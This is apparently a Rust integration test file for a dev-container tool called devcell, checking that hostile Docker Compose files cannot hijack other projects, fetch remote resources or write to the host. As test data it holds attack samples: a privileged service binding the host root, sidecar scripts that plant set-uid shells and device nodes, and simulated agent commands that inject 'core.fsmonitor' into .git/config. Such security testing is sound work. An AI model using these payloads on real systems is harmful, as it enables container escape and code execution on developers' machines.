//! Hostile Compose files that reach past their own project (spec-notes 0601, 0603): the
//! repository names another workspace's project (`name:`, `.env`), another project's volume or
//! network (`name:`, `external`), or a tag another workspace's image carries (`build` with
//! `image`). Each asserts on the engine that the other project's containers, volume, network
//! and image are as they were, not only that an error was printed.

use crate::support::deadline::Bounded as _;
use devcell::engine::compose::sanitize_project_name;

use crate::support::context::{TestContext, docker_lines};
use crate::support::docker::BUSYBOX_IMAGE;

const ID_AND_SERVICE: &str = "{{.ID}} {{.Label \"com.docker.compose.service\"}} {{.State}}";

/// `<id> <service> <state>` of every container of `project`, sorted.
pub(super) fn project_containers(project: &str) -> Vec<String> {
    let mut lines = docker_lines(&[
        "ps",
        "-a",
        "--no-trunc",
        "--filter",
        &format!("label=com.docker.compose.project={project}"),
        "--format",
        ID_AND_SERVICE,
    ]);
    lines.sort();
    lines
}

/// The project name the reference rule gives a workspace whose Compose file is in
/// `.devcontainer` (spec-note 0600), cleaned up on drop.
pub(super) fn own_project(ctx: &TestContext) -> String {
    let base = ctx.path().file_name().unwrap().to_string_lossy();
    let name = sanitize_project_name(&format!("{base}_devcontainer"));
    ctx.clean_label(&format!("com.docker.compose.project={name}"));
    name
}

pub(super) const CONFIG: &str =
    r#"{"dockerComposeFile": "docker-compose.yml", "service": "SERVICE", "remoteUser": "nobody"}"#;

fn sleeper(service: &str) -> String {
    format!("  {service}:\n    image: {BUSYBOX_IMAGE}\n    command: [\"sleep\", \"100000\"]\n")
}

/// A workspace's project (`app` + `db`, brought up by devcell) and a project made by hand with
/// `docker compose` are named by another repository, through its file's `name:` and through
/// its workspace `.env`: its `up` and `build` are refused, its `down --remove` touches
/// nothing, and the other projects' containers are the same containers, still running.
#[test]
fn a_repository_naming_another_project_never_replaces_joins_or_removes_it() {
    let Some(victim) = TestContext::busybox("hostile_compose_victim") else {
        return;
    };
    let Some(attacker) = TestContext::busybox("hostile_compose_claim") else {
        return;
    };
    let (victim, attacker) = (victim.isolated(), attacker.isolated());
    let pid = std::process::id();
    let name = format!("devcell-victim-{pid}");
    victim.clean_label(&format!("com.docker.compose.project={name}"));
    victim.write(
        ".devcontainer/docker-compose.yml",
        &format!(
            "name: {name}\nservices:\n{}{}",
            sleeper("app"),
            sleeper("db")
        ),
    );
    let victim = victim.config(&CONFIG.replace("SERVICE", "app"));
    victim.up(&[]);
    let before = project_containers(&name);
    assert_eq!(before.len(), 2, "{before:?}");

    // a project made with `docker compose` by hand, not a dev container's
    let by_hand = format!("devcell-byhand-{pid}");
    victim.clean_label(&format!("com.docker.compose.project={by_hand}"));
    let hand_file = victim.tmp().join("by-hand.yml");
    std::fs::write(&hand_file, format!("services:\n{}", sleeper("db"))).unwrap();
    let made = std::process::Command::new("docker")
        .args(["compose", "-p", &by_hand, "-f"])
        .arg(&hand_file)
        .args(["up", "-d"])
        .bounded_output()
        .unwrap();
    assert!(made.status.success(), "{made:?}");
    let hand_before = project_containers(&by_hand);
    assert_eq!(hand_before.len(), 1, "{hand_before:?}");

    // the attacker's primary service has another name; its `db` would replace the victim's
    let evil = format!(
        "name: NAME\nservices:\n{}  db:\n    image: {BUSYBOX_IMAGE}\n    command: [\"sh\", \"-c\", \"echo replaced; sleep 100000\"]\n",
        sleeper("evil")
    );
    attacker.write(
        ".devcontainer/docker-compose.yml",
        &evil.replace("NAME", &name),
    );
    let attacker = attacker.config(&CONFIG.replace("SERVICE", "evil"));
    let own = own_project(&attacker);
    for command in ["up", "build"] {
        let refused = attacker.run(command, &[]);
        let stderr = refused.failed();
        assert!(
            stderr.contains(&format!(
                "`{name}` already exists and is not this workspace's"
            )),
            "{command}: {stderr}"
        );
        assert_eq!(project_containers(&name), before, "{command}");
    }
    attacker.run("down", &["--remove"]).ok();
    assert_eq!(project_containers(&name), before);
    let (code, _, err) = victim.sh("true");
    assert_eq!(code, 0, "the victim's container is gone: {err}");

    // the same through the workspace's `.env` (the reference rule reads it first)
    attacker.write(
        ".devcontainer/docker-compose.yml",
        &evil.replace("name: NAME\n", ""),
    );
    attacker.write(".env", &format!("COMPOSE_PROJECT_NAME={by_hand}\n"));
    let refused = attacker.run("up", &[]);
    assert!(
        refused
            .failed()
            .contains(&format!("`{by_hand}` already exists")),
        "{}",
        refused.stderr
    );
    attacker.run("down", &["--remove"]).ok();
    assert_eq!(project_containers(&by_hand), hand_before);
    assert!(project_containers(&own).is_empty());

    // the attacker's own project still comes up
    std::fs::remove_file(attacker.path().join(".env")).unwrap();
    attacker.up(&[]);
    assert_eq!(project_containers(&own).len(), 2);
    attacker.run("down", &["--remove"]).ok();
    assert!(project_containers(&own).is_empty());
    assert_eq!(project_containers(&name), before);
    victim.run("down", &["--remove"]).ok();
    assert!(project_containers(&name).is_empty());
}

/// Another project's database volume and project network, named with `name:` in the
/// repository's file (and an `external` volume): Compose would mount and join them with a
/// warning. Refused with nothing created and nothing attached to them; granted, they are used.
#[test]
fn another_projects_volume_and_network_named_in_the_files_are_requests() {
    let Some(ctx) = TestContext::busybox("hostile_compose_shared") else {
        return;
    };
    let ctx = ctx.isolated();
    let pid = std::process::id();
    let (volume, network) = (
        format!("devcell-shared-{pid}_db"),
        format!("devcell-shared-{pid}_default"),
    );
    ctx.cleanup().volume(&volume).network(&network);
    let victim = format!("com.docker.compose.project=devcell-shared-{pid}");
    let create = |args: &[&str]| {
        let out = std::process::Command::new("docker")
            .args(args)
            .bounded_output()
            .unwrap();
        assert!(out.status.success(), "docker {args:?}: {out:?}");
    };
    create(&[
        "volume",
        "create",
        "--label",
        &victim,
        "--label",
        "com.docker.compose.volume=db",
        &volume,
    ]);
    create(&[
        "network",
        "create",
        "--label",
        &victim,
        "--label",
        "com.docker.compose.network=default",
        &network,
    ]);
    let project = own_project(&ctx);
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!(
            "services:\n{}    volumes: [\"stolen:/stolen\"]\nvolumes:\n  stolen:\n    name: {volume}\nnetworks:\n  default:\n    name: {network}\n",
            sleeper("app")
        ),
    );
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    let users = || {
        let mut on = docker_lines(&["ps", "-aq", "--filter", &format!("volume={volume}")]);
        on.extend(
            docker_lines(&[
                "network",
                "inspect",
                "--format",
                "{{range $id, $c := .Containers}}{{$id}} {{end}}",
                &network,
            ])
            .into_iter()
            .filter(|l| !l.trim().is_empty()),
        );
        on
    };
    let refused = ctx.run("up", &[]);
    let stderr = refused.failed();
    for flag in [
        format!("--allow volume:{volume}"),
        format!("--allow network:{network}"),
    ] {
        assert!(stderr.contains(&flag), "{flag}: {stderr}");
    }
    assert!(project_containers(&project).is_empty());
    assert!(users().is_empty(), "{:?}", users());

    // an `external` volume of another project likewise
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!(
            "services:\n{}    volumes: [\"stolen:/stolen\"]\nvolumes:\n  stolen:\n    name: {volume}\n    external: true\n",
            sleeper("app")
        ),
    );
    let refused = ctx.run("up", &[]);
    assert!(
        refused
            .failed()
            .contains(&format!("--allow volume:{volume}")),
        "{}",
        refused.stderr
    );
    assert!(project_containers(&project).is_empty());
    assert!(users().is_empty(), "{:?}", users());

    // granted: mounted as asked
    let up = ctx.up(&["--allow", &format!("volume:{volume}")]);
    assert!(
        up["devcell"]["permissions"].to_string().contains(&volume),
        "{up}"
    );
    assert_eq!(users().len(), 1);
    ctx.run("down", &["--remove"]).ok();
    assert!(project_containers(&project).is_empty());
}

/// A build service whose `image` is a tag another workspace's image carries: `docker compose
/// build` would move that tag to the repository's build. Refused (`up` and `build`) with the
/// tag where it was; granted, moved.
#[test]
fn a_compose_build_does_not_move_another_images_tag() {
    let Some(ctx) = TestContext::busybox("hostile_compose_tag") else {
        return;
    };
    let ctx = ctx.isolated();
    let pid = std::process::id();
    let victim = format!("devcell-test/victim-{pid}:1");
    ctx.remove_image(&victim);
    assert!(
        std::process::Command::new("docker")
            .args(["tag", BUSYBOX_IMAGE, &victim])
            .bounded_status()
            .unwrap()
            .success()
    );
    let id_of = |image: &str| docker_lines(&["image", "inspect", "--format", "{{.Id}}", image]);
    let before = id_of(&victim);
    assert_eq!(before.len(), 1);
    let project = own_project(&ctx);
    ctx.remove_images_matching(&format!("{project}-*"));
    ctx.write(
        ".devcontainer/Dockerfile",
        &format!("FROM {BUSYBOX_IMAGE}\nLABEL devcell.test.poisoned=1\n"),
    );
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!(
            "services:\n  app:\n    build: {{context: ., pull: false}}\n    image: {victim}\n    pull_policy: build\n    command: [\"sleep\", \"100000\"]\n"
        ),
    );
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    for command in ["up", "build"] {
        let refused = ctx.run(command, &[]);
        let stderr = refused.failed();
        assert!(
            stderr.contains(&format!("--allow image-tag:{victim}")),
            "{command}: {stderr}"
        );
        assert_eq!(id_of(&victim), before, "{command} moved the tag");
    }
    assert!(project_containers(&project).is_empty());
}

/// A listener on 127.0.0.1 that counts connections and serves nothing: any connection means
/// the host fetched what the repository named.
fn tripwire() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let count = std::sync::Arc::clone(&hits);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            drop(stream);
        }
    });
    (port, hits)
}

/// `include:` of a git repository or an OCI artifact: Compose fetches them on the host while
/// it loads the files (`docker compose config`, before anything is judged), with the user's
/// git and registry credentials. Under `hardened` nothing is fetched, also when the project's
/// `.env` turns the loaders back on; `reference` keeps Compose's behaviour.
#[test]
fn remote_compose_resources_are_never_fetched_on_the_host() {
    let Some(ctx) = TestContext::busybox("hostile_compose_remote") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    let (port, hits) = tripwire();
    let hits = || hits.load(std::sync::atomic::Ordering::SeqCst);
    ctx.write(
        ".devcontainer/.env",
        "COMPOSE_EXPERIMENTAL_GIT_REMOTE=true\nCOMPOSE_EXPERIMENTAL_OCI_REMOTE=true\n",
    );
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    for remote in [
        format!("http://127.0.0.1:{port}/private/repo.git"),
        format!("oci://127.0.0.1:{port}/devcell/compose:1"),
    ] {
        ctx.write(
            ".devcontainer/docker-compose.yml",
            &format!("include:\n  - {remote}\nservices:\n{}", sleeper("app")),
        );
        let refused = ctx.run("up", &[]);
        let stderr = refused.failed();
        assert!(stderr.contains("remote resource is disabled"), "{stderr}");
        assert_eq!(hits(), 0, "{remote} was fetched on the host");
        assert!(project_containers(&project).is_empty());
    }
    // the reference profile applies the files as written: Compose fetches (and fails here)
    ctx.run("up", &["--security-profile", "reference"]);
    assert!(hits() > 0, "the tripwire itself must see a fetch");
    assert!(project_containers(&project).is_empty());
}

/// A `build.context` (or named context) that is a git or HTTP URL: the engine would fetch it
/// on the host's network, with whatever the host reaches. Under `hardened` it is a request
/// (`--allow build-context:<url>`), refused before Compose or the engine fetch anything, for
/// `up` and `build` alike; `reference` keeps Compose's behaviour.
#[test]
fn a_remote_build_context_is_never_fetched_by_default() {
    let Some(ctx) = TestContext::busybox("hostile_compose_git_context") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    ctx.remove_image(&format!("{project}-app"));
    ctx.remove_image(&format!("{project}-tool"));
    let (port, hits) = tripwire();
    let hits = || hits.load(std::sync::atomic::Ordering::SeqCst);
    let url = format!("http://127.0.0.1:{port}/private/repo.git");
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    for (what, build) in [
        ("the primary's context", format!("build: {url}")),
        (
            "a named context",
            format!("build: {{context: ., additional_contexts: {{src: \"{url}#main\"}}}}"),
        ),
    ] {
        ctx.write(
            ".devcontainer/Dockerfile",
            &format!("FROM {BUSYBOX_IMAGE}\n"),
        );
        ctx.write(
            ".devcontainer/docker-compose.yml",
            &format!("services:\n{}  tool:\n    {build}\n", sleeper("app")),
        );
        for command in ["up", "build"] {
            let refused = ctx.run(command, &[]);
            let stderr = refused.failed();
            assert!(
                stderr.contains("--allow build-context:")
                    && stderr.contains("Compose service `tool`"),
                "{what}, {command}: {stderr}"
            );
            assert_eq!(hits(), 0, "{what}, {command}: the host fetched {url}");
            assert!(project_containers(&project).is_empty(), "{what}, {command}");
            assert!(
                docker_lines(&["images", "-q", &format!("{project}-tool")]).is_empty(),
                "{what}, {command}"
            );
        }
    }
    // the reference profile builds the files as written: the engine fetches (and fails here)
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!("services:\n{}  tool:\n    build: {url}\n", sleeper("app")),
    );
    ctx.run("up", &["--security-profile", "reference"]);
    // (scripts/podman runs Podman in a network namespace of its own, whose loopback is not
    // this one: its fetch cannot reach the tripwire)
    if !crate::support::engine::engine_is_podman() {
        assert!(hits() > 0, "the tripwire itself must see a fetch");
    }
    ctx.run("down", &["--remove"]).ok();
}

/// A service (sidecar or primary) with `network_mode: bridge` (or `default`) under `--network
/// none`/`allowlist` (a handoff's default is `none`): devcell closes the project's networks,
/// and that service would sit on the engine's open bridge instead, reaching the host and
/// beyond. Refused before anything is created: no container, no network of the project
/// (spec-note 0480).
#[test]
fn a_service_on_the_engines_bridge_is_refused_under_a_closed_network() {
    let Some(ctx) = TestContext::busybox("hostile_compose_bridge") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    let networks = || {
        docker_lines(&[
            "network",
            "ls",
            "-q",
            "--filter",
            &format!("label=com.docker.compose.project={project}"),
        ])
    };
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    for (service, mode, network) in [
        ("side", "bridge", "none"),
        ("app", "default", "none"),
        ("side", "bridge", "allowlist"),
    ] {
        let file = format!("services:\n{}{}", sleeper("app"), sleeper("side")).replace(
            &format!("  {service}:\n"),
            &format!("  {service}:\n    network_mode: {mode}\n"),
        );
        ctx.write(".devcontainer/docker-compose.yml", &file);
        let refused = ctx.run("up", &["--network", network]);
        let stderr = refused.failed();
        assert!(
            stderr.contains(&format!("`{service}` sets `network_mode: {mode}`")),
            "{network}: {stderr}"
        );
        assert!(project_containers(&project).is_empty(), "{network}");
        assert!(networks().is_empty(), "{network}: {:?}", networks());
    }
}

/// A Compose file that `include`s, or `extends` a service from, a file outside the workspace
/// (spec-note 0601): Compose would read it on the host and bring in values the repository does
/// not own (here a privileged service with the host's root bound). Refused before the first
/// `docker compose config`, with `--allow compose-file:<path>`; no container of the project is
/// created and the outside file is unchanged. Granted, the compose-file judgement passes and
/// the included service is judged like any other (its `privileged` is still a request).
#[test]
fn a_compose_file_outside_the_workspace_is_a_request() {
    let Some(ctx) = TestContext::busybox("hostile_compose_outside_file") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    let outside = tempfile::tempdir().expect("tempdir");
    let evil = outside.path().join("evil.yml");
    let evil_text = format!(
        "services:\n  evil:\n    image: {BUSYBOX_IMAGE}\n    privileged: true\n    volumes: [\"/:/host\"]\n    command: [\"sleep\", \"100000\"]\n"
    );
    std::fs::write(&evil, &evil_text).expect("write evil.yml");
    let evil_path = evil
        .canonicalize()
        .expect("canonical")
        .display()
        .to_string();
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    for (what, file) in [
        (
            "include",
            format!("include:\n  - {evil_path}\nservices:\n{}", sleeper("app")),
        ),
        (
            "extends",
            format!(
                "services:\n{}  side:\n    extends:\n      file: {evil_path}\n      service: evil\n",
                sleeper("app")
            ),
        ),
    ] {
        ctx.write(".devcontainer/docker-compose.yml", &file);
        for command in ["up", "build"] {
            let refused = ctx.run(command, &[]);
            let stderr = refused.failed();
            assert!(
                stderr.contains(&format!("--allow compose-file:{evil_path}")),
                "{what}, {command}: {stderr}"
            );
            assert!(project_containers(&project).is_empty(), "{what}, {command}");
        }
        // granted, the file is read and what it brings is judged as the repository's own
        let grant = format!("compose-file:{evil_path}");
        let judged = ctx.run("up", &["--allow", &grant]);
        let stderr = judged.failed();
        assert!(
            !stderr.contains("--allow compose-file:"),
            "{what}: the grant covers the file: {stderr}"
        );
        assert!(stderr.contains("privileged"), "{what}: {stderr}");
        assert!(project_containers(&project).is_empty(), "{what}");
    }
    assert_eq!(std::fs::read_to_string(&evil).unwrap(), evil_text);
}

/// A handoff into a Compose workspace: a sidecar binds the repository (`..:/w`) and appends
/// `core.fsmonitor` to `/w/.git/config` as it starts, and the primary binds it a second time
/// (`..:/ws2`) where the agent tries the same. The handoff's read-only git overlays stay
/// read-only through every service's own binds (spec-note 0413): both writes fail, the host's
/// `.git/config` is byte-identical and a human's `git status` runs nothing.
#[test]
fn a_services_bind_of_the_repository_does_not_make_its_git_config_writable() {
    use crate::support::hostile::{HostTarget, HostileRepo};
    let Some(repo) = HostileRepo::busybox("hostile_compose_git_config") else {
        return;
    };
    let target = HostTarget::new();
    let project = own_project(repo.context());
    let write = |file: &str, result: &str| {
        format!(
            "printf '[core]\\n\\tfsmonitor = touch {m}\\n' >> {file} 2>/dev/null \
             && echo wrote > {result} || echo refused > {result}",
            m = target.marker().display()
        )
    };
    let side = serde_json::to_string(&[
        "sh",
        "-c",
        &format!(
            "{}; sleep 100000",
            write("/w/.git/config", "/w/out/side.txt")
        ),
    ])
    .unwrap();
    repo.config(
        r#"{"dockerComposeFile": "docker-compose.yml", "service": "app", "remoteUser": "nobody",
            "updateRemoteUserUID": true, "workspaceFolder": "/workspace"}"#,
    )
    .file(
        ".devcontainer/docker-compose.yml",
        &format!(
            "services:\n  app:\n    image: {BUSYBOX_IMAGE}\n    command: [\"sleep\", \"100000\"]\n    \
             volumes: [\"..:/workspace\", \"..:/ws2\"]\n  side:\n    image: {BUSYBOX_IMAGE}\n    \
             volumes: [\"..:/w\"]\n    command: {side}\n"
        ),
    )
    .file("out/.keep", "")
    .commit();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(
        repo.path().join("out"),
        std::fs::Permissions::from_mode(0o777),
    )
    .unwrap();
    let config = repo.path().join(".git/config");
    let before = std::fs::read(&config).unwrap();
    // the agent waits for the sidecar's attempt (bounded), then makes its own through `/ws2`
    let agent = format!(
        "i=0; while [ ! -s out/side.txt ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done; {}; \
         echo reached > /ws2/out/reached.txt; true",
        write("/ws2/.git/config", "out/ws2.txt")
    );
    let settings = repo.context().tmp().join("config.toml");
    std::fs::write(
        &settings,
        format!(
            "[agents.a]\ncommand = {}\n",
            serde_json::to_string(&["sh", "-c", &agent]).unwrap()
        ),
    )
    .unwrap();
    let run = repo.context().run(
        "handoff",
        &[
            "--agent",
            "a",
            "--config-file",
            settings.to_str().unwrap(),
            "--format",
            "json",
        ],
    );
    assert_eq!(run.code, Some(0), "{}\n{}", run.stdout, run.stderr);
    let read = |rel: &str| std::fs::read_to_string(repo.path().join(rel)).unwrap_or_default();
    assert_eq!(
        read("out/reached.txt"),
        "reached\n",
        "the second bind is writable"
    );
    // both attempts were made; each reached at most a container git directory, never the
    // host's `.git` (0436: `/w/.git` and `/ws2/.git` are covered as `/workspace/.git` is)
    for (file, who) in [("out/side.txt", "sidecar"), ("out/ws2.txt", "agent")] {
        assert!(
            matches!(read(file).as_str(), "refused\n" | "wrote\n"),
            "the {who} tried: {}",
            read(file)
        );
    }
    assert_eq!(
        std::fs::read(&config).unwrap(),
        before,
        "the host's .git/config is unchanged"
    );
    // and a human's git on the host runs nothing
    let _ = std::process::Command::new("git")
        .args(["-c", "safe.directory=*", "status", "--porcelain"])
        .current_dir(repo.path())
        .output();
    target.assert_untouched();
    repo.context().run("down", &["--remove"]);
    assert!(project_containers(&project).is_empty());
}

/// Every entry below `dir` (not following links) that is not a plain file or folder of the
/// workspace user: a device node, a file owned by another user or group, a set-uid/set-gid
/// file of another user.
pub(super) fn foreign_entries(dir: &std::path::Path, owner: u32) -> Vec<String> {
    use std::os::unix::fs::{FileTypeExt as _, MetadataExt as _};
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let meta = std::fs::symlink_metadata(&path).unwrap();
        let kind = meta.file_type();
        if kind.is_char_device() || kind.is_block_device() {
            out.push(format!("device {}", path.display()));
        }
        if meta.uid() != owner || meta.gid() != owner {
            out.push(format!(
                "{} owned by {}:{} (mode {:o})",
                path.display(),
                meta.uid(),
                meta.gid(),
                meta.mode()
            ));
        }
        if kind.is_dir() {
            out.extend(foreign_entries(&path, owner));
        }
    }
    out
}

/// A root sidecar that binds the workspace (allowed unasked: it is inside the workspace) tries
/// to leave a set-uid copy of its shell, a root-owned set-uid/set-gid file and device nodes in
/// the user's folder: under `hardened` it runs as the workspace user without the capabilities
/// for it, so nothing there is a device or another user's (a set-uid bit on the user's own
/// file gives nothing). The grant `runtime-option:keep_image_user=side` keeps its root, and
/// then it does leave them (the control).
#[test]
fn a_root_sidecar_writing_the_workspace_leaves_no_set_uid_file_device_or_foreign_file() {
    use crate::support::git::{WORKSPACE_OWNER, give_to_workspace_owner};
    let Some(ctx) = TestContext::busybox("hostile_compose_writer") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    let script = "cd /ws/out && cp /bin/busybox sb; chmod 4755 sb; touch f; chown 0:0 f; \
                  chmod 6755 f; mknod null c 1 3; mknod blk b 7 0; mkdir d; chown 0:0 d; \
                  touch done; sleep 100000";
    let side = serde_json::to_string(&["sh", "-c", script]).unwrap();
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!(
            "services:\n{}  side:\n    image: {BUSYBOX_IMAGE}\n    volumes: [\"..:/ws\"]\n    command: {side}\n",
            sleeper("app")
        ),
    );
    ctx.write("out/.keep", "");
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    give_to_workspace_owner(ctx.path());
    let out = ctx.path().join("out");
    let wait_done = || {
        for _ in 0..600 {
            if out.join("done").exists() {
                return;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        let logs = std::process::Command::new("docker")
            .args(["logs", &format!("{project}-side-1")])
            .bounded_output()
            .unwrap();
        panic!(
            "the sidecar's script did not finish: {:?} {}",
            project_containers(&project),
            String::from_utf8_lossy(&logs.stderr)
        );
    };

    ctx.up(&[]);
    wait_done();
    let foreign = foreign_entries(&out, WORKSPACE_OWNER);
    assert!(
        foreign.is_empty(),
        "the sidecar left on the host: {foreign:#?}"
    );
    assert!(
        out.join("sb").exists(),
        "the sidecar did not run its script"
    );

    // control: with the grant the same sidecar keeps root and leaves them
    std::fs::remove_file(out.join("done")).unwrap();
    for line in project_containers(&project) {
        let id = line.split(' ').next().unwrap();
        docker_lines(&["rm", "-f", id]);
    }
    let run = ctx.run("up", &["--allow", "runtime-option:keep_image_user=side"]);
    run.ok();
    wait_done();
    let foreign = foreign_entries(&out, WORKSPACE_OWNER);
    for name in ["null", "blk", "f"] {
        assert!(
            foreign.iter().any(|f| f.contains(&format!("out/{name}"))),
            "the control left no `{name}`: {foreign:#?}"
        );
    }
    assert!(
        run.stdout.contains("keep_image_user=side") || run.stderr.contains("keep_image_user=side"),
        "the grant is not reported: {}",
        run.stdout
    );
}

/// Attack G1 (spec-note 0400): an agent makes a named volume that binds the workspace
/// (`wsvol: {driver_opts: {o: bind, device: <workspace>}}`, mounted at `/hostws`); the
/// session covers `/hostws/.git`, and Compose creates `<project>_wsvol` with those options and
/// the project's label. The agent then declares it plain (`wsvol: {}`) and the project's
/// containers are removed: Compose reuses the volume as it is, so the next session mounts the
/// bind again. devcell judges it by what the engine holds: the second session's `/hostws/.git`
/// is covered too (the host's marker file there is not readable), its attempt to add
/// `core.fsmonitor` leaves the host's `.git/config` byte-identical, and a human's git runs
/// nothing.
#[test]
fn a_bind_backed_volume_left_by_an_earlier_session_is_covered_when_declared_plain() {
    use crate::support::hostile::{HostTarget, HostileRepo};
    let Some(repo) = HostileRepo::busybox("hostile_compose_held_bind") else {
        return;
    };
    let target = HostTarget::new();
    let project = own_project(repo.context());
    repo.context().cleanup().volume(&format!("{project}_wsvol"));
    let compose = |wsvol: &str| {
        format!(
            "services:\n  app:\n    image: {BUSYBOX_IMAGE}\n    command: [\"sleep\", \"100000\"]\n    \
             volumes: [\"..:/workspace\", \"wsvol:/hostws\"]\nvolumes:\n  wsvol: {wsvol}\n"
        )
    };
    let bind = format!(
        "{{driver_opts: {{type: none, o: bind, device: \"{}\"}}}}",
        repo.path().display()
    );
    repo.config(
        r#"{"dockerComposeFile": "docker-compose.yml", "service": "app", "remoteUser": "nobody",
            "updateRemoteUserUID": true, "workspaceFolder": "/workspace"}"#,
    )
    .file(".devcontainer/docker-compose.yml", &compose(&bind))
    .file("out/.keep", "")
    .commit();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(
        repo.path().join("out"),
        std::fs::Permissions::from_mode(0o777),
    )
    .unwrap();
    std::fs::write(repo.path().join(".git/attack-marker"), "HOST-REAL-GIT\n").unwrap();
    let config = repo.path().join(".git/config");
    let before = std::fs::read(&config).unwrap();
    let settings = repo.context().tmp().join("config.toml");
    let session = |n: u32| {
        let agent = format!(
            "cat /hostws/.git/attack-marker > out/marker{n}.txt 2>&1; \
             printf '[core]\\n\\tfsmonitor = touch {m}\\n' >> /hostws/.git/config 2>/dev/null \
             && echo wrote > out/write{n}.txt || echo refused > out/write{n}.txt; true",
            m = target.marker().display()
        );
        std::fs::write(
            &settings,
            format!(
                "[agents.a]\ncommand = {}\n",
                serde_json::to_string(&["sh", "-c", &agent]).unwrap()
            ),
        )
        .unwrap();
        let run = repo.context().run(
            "handoff",
            &[
                "--agent",
                "a",
                "--config-file",
                settings.to_str().unwrap(),
                "--format",
                "json",
            ],
        );
        assert_eq!(
            run.code,
            Some(0),
            "session {n}: {}\n{}",
            run.stdout,
            run.stderr
        );
        let read = |rel: &str| std::fs::read_to_string(repo.path().join(rel)).unwrap_or_default();
        assert!(
            !read(&format!("out/marker{n}.txt")).contains("HOST-REAL-GIT"),
            "session {n} read the host's .git through /hostws"
        );
        assert!(
            !read(&format!("out/write{n}.txt")).is_empty(),
            "session {n}'s agent did not run"
        );
        assert_eq!(
            std::fs::read(&config).unwrap(),
            before,
            "session {n} changed the host's .git/config"
        );
    };

    session(1);
    let held = docker_lines(&[
        "volume",
        "inspect",
        "--format",
        "{{.Options.o}} {{.Options.device}}",
        &format!("{project}_wsvol"),
    ]);
    assert_eq!(
        held,
        [format!("bind {}", repo.path().display())],
        "the first session made the bind-backed volume"
    );
    // what the agent writes, and what a user does after devcell refuses to reuse a container
    std::fs::write(
        repo.path().join(".devcontainer/docker-compose.yml"),
        compose("{}"),
    )
    .unwrap();
    for line in project_containers(&project) {
        let id = line.split(' ').next().unwrap();
        docker_lines(&["rm", "-f", id]);
    }
    session(2);

    // a human's git on the host runs nothing
    let _ = std::process::Command::new("git")
        .args(["-c", "safe.directory=*", "status", "--porcelain"])
        .current_dir(repo.path())
        .output();
    target.assert_untouched();
    repo.context().run("down", &["--remove"]);
    assert!(project_containers(&project).is_empty());
}

/// Attack G4 (spec-note 0611): a root sidecar with no bind of its own takes the primary's
/// mounts (`volumes_from: [app]`), the workspace read-write among them, and tries to leave a
/// set-uid-root copy of its shell, a root-owned set-uid/set-gid file and device nodes there.
/// It is a request (`namespace:volumes_from:app`): refused, nothing of the project is created;
/// granted, it is a host writer and runs as the workspace user without the capabilities for
/// it, so on the host nothing under the workspace is a device, set-uid/set-gid, or another
/// user's.
#[test]
fn a_sidecar_with_volumes_from_the_primary_makes_no_set_uid_file_or_device() {
    use crate::support::git::{WORKSPACE_OWNER, give_to_workspace_owner};
    use std::os::unix::fs::MetadataExt as _;
    let Some(ctx) = TestContext::busybox("hostile_compose_volfrom") else {
        return;
    };
    let ctx = ctx.isolated();
    let project = own_project(&ctx);
    let script = "while [ ! -d /ws/out ]; do sleep 0.1; done; cd /ws/out && cp /bin/busybox sb; \
                  chmod 4755 sb; chown 0:0 sb; chmod 4755 sb; touch f; chown 0:0 f; chmod 6755 f; \
                  mknod kmem c 1 1; mknod blk b 7 0; chmod 666 blk; mkdir d; chown 0:0 d; \
                  id > who; touch done; sleep 100000";
    let side = serde_json::to_string(&["sh", "-c", script]).unwrap();
    ctx.write(
        ".devcontainer/docker-compose.yml",
        &format!(
            "services:\n{}    volumes: [\"..:/ws\"]\n  side:\n    image: {BUSYBOX_IMAGE}\n    \
             volumes_from: [app]\n    command: {side}\n",
            sleeper("app")
        ),
    );
    ctx.write("out/.keep", "");
    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
    give_to_workspace_owner(ctx.path());
    let out = ctx.path().join("out");

    let refused = ctx.run("up", &[]);
    let stderr = refused.failed();
    assert!(
        stderr.contains("--allow namespace:volumes_from:app"),
        "{stderr}"
    );
    assert!(project_containers(&project).is_empty());

    ctx.up(&["--allow", "namespace:volumes_from:app"]);
    let mut done = false;
    for _ in 0..600 {
        if out.join("done").exists() {
            done = true;
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    assert!(
        done,
        "the sidecar's script did not finish: {:?}",
        project_containers(&project)
    );
    assert!(
        out.join("sb").exists(),
        "the sidecar did not run its script"
    );
    let foreign = foreign_entries(&out, WORKSPACE_OWNER);
    assert!(
        foreign.is_empty(),
        "the sidecar left on the host: {foreign:#?}"
    );
    for entry in std::fs::read_dir(&out).unwrap() {
        let path = entry.unwrap().path();
        let meta = std::fs::symlink_metadata(&path).unwrap();
        assert!(
            meta.mode() & 0o6000 == 0 || meta.uid() == WORKSPACE_OWNER,
            "{} is set-uid/set-gid for another user",
            path.display()
        );
    }
